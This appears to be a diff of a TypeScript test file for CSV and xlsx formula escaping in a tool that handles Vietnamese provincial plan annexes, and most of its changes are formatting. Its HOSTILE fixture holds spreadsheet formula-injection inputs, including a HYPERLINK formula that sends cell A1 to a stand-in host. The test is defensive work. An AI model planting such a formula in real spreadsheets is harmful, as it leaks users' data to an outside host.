@@ -15,7 +15,13 @@ const refs = (t: string) => [{ text: t, kind: 'unknown' as const }];
 
 function annexWith(texts: string[]): Annex {
   return AnnexSchema.parse({
-    meta: { planYear: 2025, docType: 'KH', docNumber: '12/KH-UBND', docDate: '2025-01-10', issuer: 'UBND tỉnh Khánh Hòa' },
+    meta: {
+      planYear: 2025,
+      docType: 'KH',
+      docNumber: '12/KH-UBND',
+      docDate: '2025-01-10',
+      issuer: 'UBND tỉnh Khánh Hòa',
+    },
     sections: [
       {
         numeral: 'I',
@@ -37,7 +43,13 @@ function annexWith(texts: string[]): Annex {
   });
 }
 
-const HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', '+84 912 345 678', '-2+3', '@SUM(A1:A9)', '- Sở Nội vụ chủ trì'];
+const HOSTILE = [
+  '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
+  '+84 912 345 678',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '- Sở Nội vụ chủ trì',
+];
 
 describe('formula escaping', () => {
   it('escapeCellText: one rule for CSV, a narrower one for typed xlsx cells', () => {
@@ -66,7 +78,11 @@ describe('formula escaping', () => {
   });
 
   it('gridToCsv escapes by default', () => {
-    const csv = gridToCsv({ sheet: 's', kind: 'sheet', rows: [{ index: 1, cells: HOSTILE.map((text) => ({ text })) }] });
+    const csv = gridToCsv({
+      sheet: 's',
+      kind: 'sheet',
+      rows: [{ index: 1, cells: HOSTILE.map((text) => ({ text })) }],
+    });
     expect(Papa.parse<string[]>(csv).data[0]).toEqual(HOSTILE.map((t) => `'${t}`));
   });
 
@@ -96,7 +112,7 @@ describe('formula escaping', () => {
     expect(Object.entries(sheet).filter(([k, v]) => !k.startsWith('!') && (v as XLSX.CellObject).f)).toEqual([]);
   });
 
-  it('writeGridsXlsx keeps officers\' formulas as formulas and text that looks like one as text', async () => {
+  it("writeGridsXlsx keeps officers' formulas as formulas and text that looks like one as text", async () => {
     const bytes = await writeGridsXlsx([
       {
         sheet: 'Phụ lục',
@@ -117,8 +133,16 @@ describe('formula escaping', () => {
   it('writeGridsXlsx keeps control characters and sheet names Excel would refuse', async () => {
     const text = 'Trang 1\fTrang 2 _x0041_';
     const bytes = await writeGridsXlsx([
-      { sheet: 'Kế hoạch [2025]: phụ lục/nhiệm vụ chi tiết rất dài', kind: 'text', rows: [{ index: 1, cells: [{ text }] }] },
-      { sheet: 'Kế hoạch [2025]: phụ lục/nhiệm vụ chi tiết rất dài', kind: 'text', rows: [{ index: 1, cells: [{ text: 'b' }] }] },
+      {
+        sheet: 'Kế hoạch [2025]: phụ lục/nhiệm vụ chi tiết rất dài',
+        kind: 'text',
+        rows: [{ index: 1, cells: [{ text }] }],
+      },
+      {
+        sheet: 'Kế hoạch [2025]: phụ lục/nhiệm vụ chi tiết rất dài',
+        kind: 'text',
+        rows: [{ index: 1, cells: [{ text: 'b' }] }],
+      },
     ]);
     const grids = await readFileToGrids(bytes, 'x.xlsx');
     expect(grids[0].rows[0].cells[0].text).toBe(text);
